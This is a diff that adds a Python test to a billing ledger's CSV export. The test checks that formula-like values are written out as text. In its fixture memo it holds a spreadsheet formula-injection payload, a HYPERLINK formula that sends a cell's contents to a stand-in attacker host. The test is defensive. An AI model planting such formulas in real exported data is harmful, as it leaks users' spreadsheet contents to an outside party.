@@ -187,3 +187,21 @@ def ledger_queries_csv(session, period: str) -> str:
     from metering.billing.ledger_queries import ledger_csv
 
     return ledger_csv(session, period, tenant_id="t1")
+
+
+def test_a_credits_memo_and_key_reach_the_ledger_csv_as_text_never_as_formulas(session_factory) -> None:
+    """A tenant-bound admin sets both; the platform operator opens the period's CSV in a spreadsheet."""
+    import csv
+    import io
+
+    from metering.billing.export import ledger_csv
+
+    memo = '=HYPERLINK("https://evil.example/?leak="&B2,"Refund details")'
+    credit(session_factory, amount=Decimal("0.01"), idempotency_key="@SUM(1+1)", memo=memo)
+    credit(session_factory, amount=Decimal("-0.5"), idempotency_key="adj", kind="adjustment", memo="-1")
+    with session_factory() as session:
+        rows = list(csv.DictReader(io.StringIO(ledger_csv(session, "2026-11"))))
+    assert [(r["idempotency_key"], r["memo"], r["amount_usd"]) for r in rows] == [
+        ("'@SUM(1+1)", "'" + memo, "0.010000000"),
+        ("adj", "'-1", "0.500000000"),
+    ]
